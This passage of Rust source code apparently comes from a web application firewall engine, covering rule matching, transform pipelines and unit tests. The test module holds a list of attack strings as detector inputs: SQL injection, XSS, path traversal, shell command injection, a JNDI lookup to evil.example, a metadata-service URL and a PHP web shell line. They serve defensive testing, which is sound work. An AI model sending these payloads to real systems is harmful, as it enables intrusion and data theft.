        }
        // Outside headers, what a leaf's value confirms depends only on its view group and its
        // bytes (the name matters only to exclusions and the hit's target, after confirmation).
        // So a value that confirmed nothing confirms nothing again in this request: a bundle's
        // repeated keys, coding systems and units are evaluated once. (Header leaves are left
        // out: which rules apply to them also depends on the header name.)
        // Header values repeat across requests: one that confirmed nothing under this engine
        // (same group and name) confirms nothing again (`clean_headers.rs`).
        let mut clean_header = None;
        if leaf.location == Location::Header {
            match crate::clean_headers::check(engine.id, group_id as u16, leaf.name, value) {
                crate::clean_headers::Check::Clean => return,
                crate::clean_headers::Check::Unknown(k) => clean_header = Some(k),
                crate::clean_headers::Check::Skip => {}
            }
        }
        let clean_key = if leaf.location == Location::Header {
            None
        } else {
            match self.buf.clean_values.get(group_id as u16, value) {
                Lookup::Hit(()) => return,
                Lookup::Miss(key) => Some(key),
                Lookup::Skip => None,
            }
        };
        let mut sc = std::mem::take(&mut self.buf.scratch);
        sc.reset(engine.views.len());
        // One pass over the bytes decides which transforms may change the value.
        sc.raw_changes = crate::transform::may_change_mask(value);
        if group.scan_mask & sc.raw_changes == 0 && leaf.location != Location::Header {
            // No view's transforms may change the value (most values): all scan it as it is.
            for &vi in &group.views {
                sc.view_slot[usize::from(vi)] = RAW_SLOT;
            }
            sc.scan.push((RAW_SLOT, group.view_bits));
        } else {
            for &vi in &group.views {
                let view = &engine.views[usize::from(vi)];
                if !Self::view_applies(view, leaf) {
                    continue;
                }
                // A view none of whose transforms may change the value scans it as it is.
                let slot = if view.scan_mask & sc.raw_changes == 0 {
                    RAW_SLOT
                } else {
                    sc.node(value, &engine.steps, view.node)
                };
                sc.view_slot[usize::from(vi)] = slot;
                match sc.scan.iter_mut().find(|(s, _)| *s == slot) {
                    Some((_, views)) => *views |= 1u64 << vi,
                    None => sc.scan.push((slot, 1u64 << vi)),
                }
            }
        }
        if sc.scan.is_empty() {
            self.buf.scratch = sc;
            return;
        }
        let mut cands = std::mem::take(&mut self.buf.cands);
        cands.clear();
        let mut seen = std::mem::take(&mut self.buf.seen);
        for &(slot, views_mask) in &sc.scan {
            let v = sc.value(value, slot);
            if let Some(ac) = &engine.ac {
                for m in ac.find_overlapping_iter(v) {
                    for pr in &engine.pattern_rules[m.pattern().as_usize()] {
                        if views_mask & (1u64 << pr.view) != 0
                            && pr.selects(v, m.start())
                            && seen.insert(pr.rule)
                        {
                            cands.push((pr.rule, slot, m.start()..m.end()));
                        }
                    }
                }
            }
            // One-byte literals: each trigger byte's rules once, at its first occurrence.
            let mut found = ByteSet::default();
            for (i, &b) in v.iter().enumerate() {
                if !engine.is_trigger[usize::from(b)] || !found.insert(b) {
                    continue;
                }
                for &(vi, r) in &engine.byte_rules[usize::from(b)] {
                    if views_mask & (1u64 << vi) != 0 && seen.insert(r) {
                        cands.push((r, slot, i..i + 1));
                    }
                }
                if found == engine.trigger_bytes {
                    break;
                }
            }
        }
        for &vi in &engine.always_views {
            let slot = sc.view_slot[usize::from(vi)];
            if slot == UNSET {
                continue;
            }
            for &r in &engine.views[usize::from(vi)].always {
                cands.push((r, slot, 0..0));
            }
        }
        for &(r, _, _) in &cands {
            seen.remove(r);
        }
        self.buf.seen = seen;
        let mut confirmed = false;
        for (r, slot, lit_range) in cands.drain(..) {
            let rule = &engine.rules[r as usize];
            if !rule.targets.matches(leaf.location, leaf.name)
                || rule.field_mask & leaf.field.bit() == 0
            {
                continue;
            }
            let view = &engine.views[engine.rule_views[r as usize] as usize];
            // The literal scan ignores case; the confirmation sees the full pipeline's value.
            let slot = if view.lower {
                sc.derive(value, slot, Transform::Lowercase)
            } else {
                slot
            };
            let v = sc.value(value, slot);
            if let Some((range, fingerprint)) =
                confirm(&rule.matcher, v, lit_range, &mut self.buf.detector_memo)
            {
                confirmed = true;
                self.record(r, leaf, v, range, &view.names, fingerprint);
            }
        }
        if let (false, Some(key)) = (confirmed, clean_key) {
            self.buf.clean_values.insert(key, value, ());
        }
        if let (false, Some(k)) = (confirmed, clean_header) {
            crate::clean_headers::remember(k, engine.id, group_id as u16, leaf.name, value);
        }
        self.buf.cands = cands;
        self.buf.scratch = sc;
    }

    /// The leaf evaluated the naive way: every view's full pipeline applied to the value, each
    /// distinct result scanned. The optimised [`Transaction::eval_leaf`] must agree with it.
    #[cfg(test)]
    fn eval_leaf_reference(&mut self, leaf: &Leaf<'_>) {
        let engine = self.engine;
        let value = &leaf.value[..leaf.value.len().min(engine.config.max_leaf_len)];
        let mut values: Vec<(Cow<'_, [u8]>, u64)> = Vec::new();
        let mut view_value: Vec<Option<usize>> = vec![None; engine.views.len()];
        for (vi, view) in engine.views.iter().enumerate() {
            if !Self::view_applies(view, leaf) {
                continue;
            }
            let v = apply_all(&view.transforms, value);
            let slot = match values.iter().position(|(e, _)| e.as_ref() == v.as_ref()) {
                Some(i) => i,
                None => {
                    values.push((v, 0));
                    values.len() - 1
                }
            };
            values[slot].1 |= 1u64 << vi;
            view_value[vi] = Some(slot);
        }
        let mut cands: Vec<(u32, usize, Range<usize>)> = Vec::new();
        for (slot, (v, views_mask)) in values.iter().enumerate() {
            let mut found = Vec::new();
            if let Some(ac) = &engine.ac {
                for m in ac.find_overlapping_iter(v.as_ref()) {
                    let rules = engine.pattern_rules[m.pattern().as_usize()]
                        .iter()
                        .filter(|pr| pr.selects(v, m.start()))
                        .map(|pr| (pr.view, pr.rule))
                        .collect();
                    found.push((rules, m.range()));
                }
            }
            for (i, &b) in v.iter().enumerate() {
                if v[..i].iter().all(|&earlier| earlier != b) {
                    found.push((engine.byte_rules[usize::from(b)].clone(), i..i + 1));
                }
            }
            for (rules, range) in found {
                for (vi, r) in rules {
                    if views_mask & (1u64 << vi) != 0 && !cands.iter().any(|(c, _, _)| *c == r) {
                        cands.push((r, slot, range.clone()));
                    }
                }
            }
        }
        for (vi, view) in engine.views.iter().enumerate() {
            if let Some(slot) = view_value[vi] {
                cands.extend(view.always.iter().map(|&r| (r, slot, 0..0)));
            }
        }
        for (r, slot, lit_range) in cands {
            let rule = &engine.rules[r as usize];
            if !rule.targets.matches(leaf.location, leaf.name)
                || rule.field_mask & leaf.field.bit() == 0
            {
                continue;
            }
            let v: &[u8] = &values[slot].0;
            if let Some((range, fingerprint)) =
                confirm(&rule.matcher, v, lit_range, &mut detect::Memo::default())
            {
                let names = &engine.views[engine.rule_views[r as usize] as usize].names;
                self.record(r, leaf, v, range, names, fingerprint);
            }
        }
    }
}

/// Confirms a candidate rule on its view's value: the regex must match, the veto must not, and
/// the detector (if any) must find its syntax. Returns the range to quote and the detector check.
fn confirm(
    matcher: &Matcher,
    v: &[u8],
    lit_range: Range<usize>,
    memo: &mut detect::Memo,
) -> Option<(Range<usize>, Option<&'static str>)> {
    let Matcher::Pattern {
        regex,
        unless,
        detector,
        ..
    } = matcher
    else {
        return None;
    };
    let mut range = lit_range;
    if let Some(re) = regex {
        range = re.find(v)?.range();
    }
    if unless.as_ref().is_some_and(|u| u.is_match(v)) {
        return None;
    }
    let mut fingerprint = None;
    if let Some(d) = detector {
        // Valid UTF-8 (nearly every value) borrows without the lossy decoder's per-chunk walk.
        let text = match std::str::from_utf8(v) {
            Ok(s) => Cow::Borrowed(s),
            Err(_) => String::from_utf8_lossy(v),
        };
        let f = memo.run(*d, &text)?;
        if matches!(text, Cow::Borrowed(_)) {
            range = f.span;
        }
        fingerprint = Some(f.fingerprint);
    }
    Some((range, fingerprint))
}

impl Sink for Transaction<'_> {
    fn leaf(&mut self, leaf: Leaf<'_>) {
        if self.post
            && leaf.name.as_bytes() == METHOD_OVERRIDE_FIELD
            && matches!(leaf.location, Location::Form | Location::Multipart)
        {
            self.body_method_override(leaf.value);
        }
        // A token travels in a header, a cookie or a parameter, as itself or after `Bearer `;
        // other values cost two comparisons.
        if (decode::jwt::starts_like_a_jwt(leaf.value)
            || leaf
                .value
                .get(7..)
                .is_some_and(decode::jwt::starts_like_a_jwt))
            && decode::jwt::is_unsigned_jwt(leaf.value)
        {
            self.signal(Signal::JwtAlgNone, leaf.location, leaf.name);
        }
        self.leaves += 1;
        if self.leaves > self.engine.config.max_leaves {
            if self.leaves == self.engine.config.max_leaves + 1 {
                self.signal(Signal::LeafLimit, leaf.location, "");
            }
            return;
        }
        // A long base64 payload is a file in transit: its start only, unless file contents are
        // inspected (`payload.rs` says why).
        let mut leaf = leaf;
        if leaf.value.len() >= crate::payload::MIN_FILE_LEN
            && !self.engine.config.inspect_file_contents
            && matches!(
                leaf.location,
                Location::Form
                    | Location::Json
                    | Location::Xml
                    | Location::Multipart
                    | Location::Hl7
                    | Location::Body
            )
            && crate::payload::is_base64_file(leaf.value)
        {
            leaf.value = &leaf.value[..leaf.value.len().min(crate::payload::FILE_HEAD)];
        }
        let markup = matches!(
            leaf.field,
            FieldKind::Generic | FieldKind::FreeText | FieldKind::Narrative
        ) && !matches!(
            leaf.location,
            Location::Header | Location::Path | Location::Method | Location::ArgName
        ) && crate::fields::looks_like_markup(leaf.value);
        if !markup {
            self.eval_leaf(&leaf);
            return;
        }
        // Rich text: markup rules on the markup, free-text rules on its text content.
        self.eval_leaf(&Leaf {
            field: FieldKind::Narrative,
            ..leaf
        });
        let text = crate::fields::markup_text(leaf.value);
        self.eval_leaf(&Leaf {
            value: &text,
            field: FieldKind::FreeText,
            ..leaf
        });
    }

    fn signal(&mut self, signal: Signal, location: Location, name: &str) {
        let bit = 1u64 << signal.index();
        if self.signals_seen & bit != 0 {
            return;
        }
        self.signals_seen |= bit;
        let engine = self.engine;
        let leaf = Leaf {
            location,
            name,
            value: b"",
            field: FieldKind::Generic,
        };
        for &r in &engine.signal_rules[signal.index()] {
            self.record(r, &leaf, b"", 0..0, &[], Some(signal.name()));
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    const RULES: &str = r#"
defaults:
  category: test
  targets: [args, path]
  transforms: [url_decode, lowercase]
rules:
  - id: 1
    name: union select
    literals: [union]
    regex: 'union\s+(all\s+)?select'
  - id: 2
    name: passwd
    literals: [etc/passwd]
    transforms: [url_decode, normalize_path]
  - id: 3
    category: ua
    score: 3
    targets: ["headers:user-agent"]
    literals: [sqlmap]
  - id: 4
    name: unless veto
    literals: ["<script"]
    unless: 'nonce='
  - id: 5
    category: proto
    score: 2
    signal: json_malformed
  - id: 6
    paranoia: 2
    literals: [select]
"#;

    fn engine(user: &str) -> Engine {
        let src = [RuleSource::new("t.yml", RULES)];
        let u = UserRules::from_palisade_yml(user).unwrap();
        Engine::compile(&src, &u, &EngineConfig::default()).unwrap()
    }

    fn run(
        e: &Engine,
        target: &[u8],
        headers: &[(&str, &[u8])],
        body: Option<(&[u8], &[u8])>,
    ) -> Verdict {
        let mut tx = e.transaction();
        let mut h: Vec<(&str, &[u8])> = vec![("Host", b"example.org")];
        h.extend_from_slice(headers);
        tx.inspect_head(&RequestHead {
            method: "GET",
            target,
            headers: &h,
        });
        if let Some((ct, b)) = body {
            tx.inspect_body(Some(ct), b);
        }
        tx.into_verdict()
    }

    fn ids(v: &Verdict) -> Vec<u32> {
        v.hits.iter().map(|h| h.rule_id).collect()
    }

    #[test]
    fn literal_plus_regex_confirm() {
        let e = engine("");
        let v = run(&e, b"/?q=1%20UNION%20SELECT%20x", &[], None);
        assert!(v.blocked);
        assert_eq!(ids(&v), vec![1]);
        assert_eq!(v.hits[0].target, "args:q");
        assert_eq!(v.hits[0].transforms, vec!["url_decode", "lowercase"]);
        // Literal alone without the regex shape does not fire.
        let v = run(&e, b"/?q=labor%20union", &[], None);
        assert!(!v.blocked && v.hits.is_empty());
    }

    #[test]
    fn separate_view_for_path_transforms() {
        let e = engine("");
        let v = run(&e, b"/static/..%5c..%5cetc%5cpasswd", &[], None);
        assert_eq!(ids(&v), vec![2]);
        assert_eq!(v.hits[0].target, "path");
    }

    #[test]
    fn header_target_and_score_below_threshold() {
        let e = engine("");
        let v = run(&e, b"/", &[("User-Agent", b"sqlmap/1.7")], None);
        assert_eq!(ids(&v), vec![3]);
        assert_eq!(v.score, 3);
        assert!(!v.blocked);
        assert_eq!(v.hits[0].target, "headers:user-agent");
    }

    #[test]
    fn unless_vetoes() {
        let e = engine("");
        assert_eq!(ids(&run(&e, b"/?a=%3Cscript%3E", &[], None)), vec![4]);
        assert!(run(&e, b"/?a=%3Cscript%20nonce=1%3E", &[], None)
            .hits
            .is_empty());
    }

    #[test]
    fn signal_rules_fire_on_decoder_findings() {
        let e = engine("");
        let v = run(&e, b"/", &[], Some((b"application/json", b"{bad")));
        assert_eq!(ids(&v), vec![5]);
        assert_eq!(v.hits[0].detector, Some("json_malformed"));
    }

    #[test]
    fn paranoia_gates_rules() {
        let e = engine("");
        assert_eq!(e.rule_count(), 5);
        let src = [RuleSource::new("t.yml", RULES)];
        let cfg = EngineConfig {
            paranoia: 2,
            ..EngineConfig::default()
        };
        let e2 = Engine::compile(&src, &UserRules::empty(), &cfg).unwrap();
        assert_eq!(e2.rule_count(), 6);
        assert_eq!(ids(&run(&e2, b"/?q=select", &[], None)), vec![6]);
    }

    #[test]
    fn json_body_leaves_named_by_path() {
        let e = engine("");
        let v = run(
            &e,
            b"/",
            &[],
            Some((b"application/json", br#"{"a":{"b":"1 union select 2"}}"#)),
        );
        assert_eq!(ids(&v), vec![1]);
        assert_eq!(v.hits[0].target, "json:$.a.b");
    }

    #[test]
    fn repeated_values_are_judged_alike_under_every_name() {
        let e = engine("exclusions:\n  - rule: 1\n    targets: [\"json:$.b\"]\n");
        // A clean value seen first, then again; an attack seen under three names, the first of
        // them excluded: the attack is still reported for each name the exclusion does not
        // cover (an excluded hit must not make the value count as clean).
        let body = br#"{"x":"select a date","y":"select a date","b":"1 union select 2","a":"1 union select 2","c":"1 union select 2"}"#;
        let v = run(&e, b"/", &[], Some((b"application/json", body)));
        let mut targets: Vec<&str> = v.hits.iter().map(|h| h.target.as_str()).collect();
        targets.sort_unstable();
        assert_eq!(targets, vec!["json:$.a", "json:$.c"]);
        // The same value in the query (another view group) is judged on its own.
        let v = run(
            &e,
            b"/?q=1+union+select+2",
            &[],
            Some((b"application/json", body)),
        );
        assert!(v.hits.iter().any(|h| h.target == "args:q"), "{:?}", v.hits);
    }

    #[test]
    fn exclusions_scope_by_path_method_target() {
        let e = engine("exclusions:\n  - rule: 1\n    path: /search\n    targets: [\"args:q\"]\n");
        assert!(run(&e, b"/search?q=union%20select", &[], None)
            .hits
            .is_empty());
        assert_eq!(
            ids(&run(&e, b"/search?other=union%20select", &[], None)),
            vec![1]
        );
        assert_eq!(
            ids(&run(&e, b"/elsewhere?q=union%20select", &[], None)),
            vec![1]
        );
    }

    #[test]
    fn exclusions_hold_only_where_the_path_is_in_scope_as_sent_and_as_resolved() {
        let e = engine("exclusions:\n  - rule: 1\n    path: /fhir/*\n");
        assert!(run(&e, b"/fhir/x?q=union%20select", &[], None)
            .hits
            .is_empty());
        // An app that resolves the path routes these outside /fhir/: the rule still applies.
        for target in [
            &b"/fhir/../search?q=union%20select"[..],
            b"/fhir/..;/search?q=union%20select",
            b"/fhir/%2e%2e/search?q=union%20select",
            b"/fhir//..//search?q=union%20select",
        ] {
            let v = run(&e, target, &[], None);
            assert!(
                ids(&v).contains(&1),
                "{}: {v:#?}",
                String::from_utf8_lossy(target)
            );
        }
    }

    #[test]
    fn global_exclusion_removes_rule() {
        let e = engine("exclusions:\n  - rule: 1\n");
        assert_eq!(e.rule_count(), 4);
        assert!(run(&e, b"/?q=union%20select", &[], None).hits.is_empty());
    }

    #[test]
    fn user_rule_virtual_patch() {
        let e = engine("rules:\n  - id: 900001\n    category: vpatch\n    targets: [path]\n    literals: [/cgi-bin/legacy.pl]\n");
        assert_eq!(
            ids(&run(&e, b"/cgi-bin/legacy.pl", &[], None)),
            vec![900001]
        );
    }

    #[test]
    fn header_values_found_clean_are_remembered_per_engine_and_hits_never_are() {
        let e = engine("");
        // A hit is never remembered: the same value fires on every request.
        for _ in 0..3 {
            assert_eq!(
                ids(&run(&e, b"/", &[("User-Agent", b"sqlmap/1.7")], None)),
                vec![3]
            );
        }
        // A clean value is remembered under this engine (some group, the header's name).
        let ua: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64) legacy-bot/2";
        assert!(run(&e, b"/", &[("User-Agent", ua)], None).hits.is_empty());
        let remembered = |e: &Engine| {
            (0..256u16).any(|g| {
                ["user-agent", "User-Agent"].iter().any(|n| {
                    matches!(
                        crate::clean_headers::check(e.id, g, n, ua),
                        crate::clean_headers::Check::Clean
                    )
                })
            })
        };
        assert!(remembered(&e));
        assert!(run(&e, b"/", &[("User-Agent", ua)], None).hits.is_empty());
        // New rules (a virtual patch for exactly this client) are a new engine: what the old
        // one found clean does not carry over, and the same value now fires.
        let patched = engine(
            "rules:\n  - id: 900002\n    category: vpatch\n    targets: [\"headers:user-agent\"]\n    literals: [legacy-bot]\n",
        );
        assert!(!remembered(&patched));
        assert_eq!(
            ids(&run(&patched, b"/", &[("User-Agent", ua)], None)),
            vec![900002]
        );
        assert_eq!(
            ids(&run(&patched, b"/", &[("User-Agent", ua)], None)),
            vec![900002]
        );
    }

    #[test]
    fn literals_that_start_words_count_only_at_a_word_start() {
        // The same literal and regex, once counting everywhere and once only at word starts:
        // the regex alone would match inside "monitoring"; the gated rule is not selected there.
        let yaml = |gated: bool| {
            format!(
                "rules:\n  - id: 1\n    category: x\n    targets: [args]\n    literals: [\"on\", \"-xon\"]\n    literals_start_words: {gated}\n    regex: 'on'\n"
            )
        };
        let compile = |gated| {
            let src = [RuleSource::new("t.yml", yaml(gated))];
            Engine::compile(&src, &UserRules::empty(), &EngineConfig::default()).unwrap()
        };
        let (plain, gated) = (compile(false), compile(true));
        let fires = |e: &Engine, q: &[u8]| !ids(&run(e, q, &[], None)).is_empty();
        for q in [&b"/?n=monitoring"[..], b"/?n=x_on", b"/?n=2on"] {
            assert!(fires(&plain, q), "{q:?}");
            assert!(
                !fires(&gated, q),
                "mid-word hit selected the gated rule: {q:?}"
            );
        }
        for q in [
            &b"/?n=on+call"[..],
            b"/?n=x-onload",
            b"/?n=%22on",
            b"/?n=monitor+on",
        ] {
            assert!(fires(&gated, q), "{q:?}");
        }
        // A literal that does not begin with a word byte is never gated: "-xon" selects the
        // rule after "a" (where its "on" is mid-word).
        assert!(fires(&gated, b"/?n=a-xon"));
        assert!(!fires(&gated, b"/?n=axon"));
        // A later word-start hit still selects the rule after an earlier mid-word one.
        assert!(fires(&gated, b"/?n=monitor+on+call"));
    }

    #[test]
    fn literals_start_words_needs_literals() {
        let src = [RuleSource::new(
            "t.yml",
            "rules:\n  - id: 1\n    category: x\n    targets: [args]\n    regex: a\n    literals_start_words: true\n",
        )];
        let err = Engine::compile(&src, &UserRules::empty(), &EngineConfig::default()).unwrap_err();
        assert!(err.to_string().contains("literals_start_words"), "{err}");
    }

    #[test]
    fn unknown_exclusion_rule_rejected() {
        let src = [RuleSource::new("t.yml", RULES)];
        let u = UserRules::from_palisade_yml("exclusions:\n  - rule: 4242\n").unwrap();
        let err = Engine::compile(&src, &u, &EngineConfig::default()).unwrap_err();
        assert!(err.to_string().contains("4242"), "{err}");
        assert_eq!(err.line, Some(2));
    }

    #[test]
    fn duplicate_ids_rejected() {
        let src = [
            RuleSource::new("a.yml", RULES),
            RuleSource::new("b.yml", RULES),
        ];
        let err = Engine::compile(&src, &UserRules::empty(), &EngineConfig::default()).unwrap_err();
        assert!(err.message.contains("a.yml"), "{err}");
    }

    /// Rules whose pipelines put `lowercase` last, alone, twice, and before a case-sensitive
    /// decoder (`\N` is `N` but `\n` is a newline), so the lazy lowercase must stay exact.
    const CASE_RULES: &str = r#"
defaults:
  category: case
  targets: [args, headers, cookies, path]
rules:
  - id: 71
    literals: [select]
    regex: 'select\s+\w+'
    transforms: [url_decode, lowercase]
  - id: 72
    literals: [script]
    transforms: [lowercase]
  - id: 73
    literals: ["\n"]
    transforms: [url_decode, lowercase, js_decode]
  - id: 74
    literals: [union]
    detector: sqli
    transforms: [url_decode, remove_nulls, lowercase, lowercase]
  - id: 75
    literals: [passwd]
    transforms: [url_decode, normalize_path, lowercase]
  - id: 76
    regex: 'ab+c'
    transforms: [lowercase]
"#;

    /// Values that exercise every transform's trigger bytes, alone and in attacks.
    const TRICKY: &[&[u8]] = &[
        b"dr-jane-smith",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        b"en-US,en;q=0.9",
        b"1' UNION SELECT password FROM users--",
        b"1 UnIoN/**/SeLeCt 1,2",
        b"union%0bselect%0cx",
        b"sel\0ect * from x",
        b"<script>alert(1)</script>",
        b"%3CScRiPt%3Ealert(1)%3C/script%3E",
        b"%253Cscript%253E",
        b"&lt;script&gt;alert(1)&lt;/script&gt;",
        b"&#x3C;img src=x onerror=alert(1)&#62;",
        b"\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        b"\\u003cSCRIPT\\u003e \\N \\n",
        b"\xef\xbc\x9cscript\xef\xbc\x9ealert(1)",
        b"..%c0%af..%c0%afetc/PASSWD",
        b"..\\..\\..\\windows\\win.ini",
        b"/etc/passwd%00.png",
        b"....//....//etc/passwd",
        b"; cat /etc/passwd",
        b"c^at /e\"t\"c/pa''sswd",
        b"$(id) ${IFS}id",
        b"${jndi:ldap://evil.example/a}",
        b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        b"javascript:alert(document.cookie)",
        b"http://169.254.169.254/latest/meta-data/",
        b"php://filter/convert.base64-encode/resource=index.php",
        b"<?php system($_GET['c']); ?>",
        b"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>' or 1=1--</p></div>",
        b"ABBBC abc",
        b"caf\xc3\xa9 \xa0 a\tb\r\n",
        b"",
    ];

    fn percent_encode(v: &[u8]) -> String {
        v.iter()
            .map(|&b| {
                if b.is_ascii_alphanumeric() || b == b'-' || b == b'.' {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect()
    }

    fn json_string(v: &[u8]) -> String {
        let mut s = String::from("\"");
        for c in String::from_utf8_lossy(v).chars() {
            match c {
                '"' => s.push_str("\\\""),
                '\\' => s.push_str("\\\\"),
                c if (c as u32) < 0x20 => s.push_str(&format!("\\u{:04x}", c as u32)),
                c => s.push(c),
            }
        }
        s.push('"');
        s
    }

    fn inspect(
        e: &Engine,
        reference: bool,
        target: &[u8],
        headers: &[(&str, &[u8])],
        body: Option<&[u8]>,
    ) -> Verdict {
        let mut tx = e.transaction();
        tx.reference = reference;
        tx.inspect_head(&RequestHead {
            method: "POST",
            target,
            headers,
        });
        if let Some(b) = body {
            tx.inspect_body(Some(b"application/json"), b);
        }
        let mut v = tx.into_verdict();
        v.hits
            .sort_by(|a, b| (a.rule_id, &a.target).cmp(&(b.rule_id, &b.target)));
        v
    }

    #[test]
    fn optimised_path_matches_naive_pipelines() {
        let embedded = Engine::with_embedded(&EngineConfig::default()).unwrap();
        let pl4 = Engine::with_embedded(&EngineConfig {
            paranoia: 4,
            ..EngineConfig::default()
        })
        .unwrap();
        let src = [
            RuleSource::new("t.yml", RULES),
            RuleSource::new("case.yml", CASE_RULES),
        ];
        let cfg = EngineConfig {
            paranoia: 2,
            ..EngineConfig::default()
        };
        let case = Engine::compile(&src, &UserRules::empty(), &cfg).unwrap();
        let mut fired = 0;
        for e in [&embedded, &pl4, &case] {
            for &v in TRICKY {
                let q = format!("/a/{}?q={}&n=1", percent_encode(v), percent_encode(v));
                let cookie = [b"s=".as_slice(), &percent_encode(v).into_bytes()].concat();
                let headers: [(&str, &[u8]); 5] = [
                    ("Host", b"example.org"),
                    ("User-Agent", v),
                    ("Referer", v),
                    ("X-Custom", v),
                    ("Cookie", &cookie),
                ];
                let body = format!("{{\"note\":{0},\"a\":[{0}],{0}:1}}", json_string(v));
                let fast = inspect(e, false, q.as_bytes(), &headers, Some(body.as_bytes()));
                let slow = inspect(e, true, q.as_bytes(), &headers, Some(body.as_bytes()));
                assert_eq!(fast, slow, "value {:?}", String::from_utf8_lossy(v));
                fired += fast.hits.len();
                // The raw value in the path too (not percent-encoded).
                let raw_target = [b"/x?".as_slice(), v].concat();
                assert_eq!(
                    inspect(e, false, &raw_target, &headers[..1], None),
                    inspect(e, true, &raw_target, &headers[..1], None),
                    "raw target {:?}",
                    String::from_utf8_lossy(v)
                );
            }
        }
        // The comparison is only meaningful if the attacks fire rules.
        assert!(fired > 100, "only {fired} hits");
    }

    #[test]
    fn trailing_lowercase_is_applied_for_confirmation_only() {
        let src = [RuleSource::new("case.yml", CASE_RULES)];
        let e = Engine::compile(&src, &UserRules::empty(), &EngineConfig::default()).unwrap();
        let v = run(&e, b"/?q=SELECT%20Name", &[], None);
        assert_eq!(ids(&v), vec![71]);
        // The snippet quotes the lowercased value the rule saw.
        assert!(
            v.hits[0].snippet.contains("select"),
            "{}",
            v.hits[0].snippet
        );
        assert_eq!(v.hits[0].transforms, vec!["url_decode", "lowercase"]);
        // `lowercase` before `js_decode` turns `\N` into a newline escape: rule 73 must see it.
        let v = run(&e, b"/?q=%5CN", &[], None);
        assert_eq!(ids(&v), vec![73]);
        let v = run(&e, b"/?q=N", &[], None);
        assert!(v.hits.is_empty());
        // A rule without literals and a trailing lowercase still runs on every leaf.
        assert_eq!(ids(&run(&e, b"/?q=xABBC", &[], None)), vec![76]);
    }

    #[test]
    fn views_share_transform_prefixes() {
        let e = Engine::with_embedded(&EngineConfig::default()).unwrap();
        let total: usize = e.views.iter().map(|v| v.transforms.len()).sum();
        assert!(e.view_count() > 10);
        // [url_decode] is the first step of most pipelines: it is stored once.
        assert!(
            e.step_count() < total / 2,
            "{} steps for {total}",
            e.step_count()
        );
        let url_decode_steps = e
            .steps
            .iter()
            .filter(|s| s.parent == ROOT && s.transform == Transform::UrlDecode)
            .count();
        assert_eq!(url_decode_steps, 1);
    }

    #[test]
    fn clean_browser_request_is_scanned_once_per_leaf() {
        let e = Engine::with_embedded(&EngineConfig::default()).unwrap();
        let mut tx = e.transaction();
        let leaf = Leaf {
            location: Location::Header,
            name: "x-request-id",
            value: b"6f1c2a4e-8f3b-4b8a-9a51-0c2d7e9b1f00",
            field: FieldKind::Generic,
        };
        tx.eval_leaf(&leaf);
        // Every applicable view sees the raw value: one slot, one scan, nothing transformed.
        assert_eq!(tx.buf.scratch.scan.len(), 1);
        assert_eq!(tx.buf.scratch.scan[0].0, RAW_SLOT);
        assert_eq!(tx.buf.scratch.used, 0);
        // A User-Agent with ", " and " (" changes only under cmdline.
        let ua = Leaf {
            location: Location::Header,
            name: "user-agent",
            value: b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
            field: FieldKind::Generic,
        };
        tx.eval_leaf(&ua);
        assert!(tx.buf.scratch.used <= 1, "{} values", tx.buf.scratch.used);
        assert!(tx.into_verdict().hits.is_empty());
    }

    #[test]
    fn engine_is_send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<Engine>();
    }
}
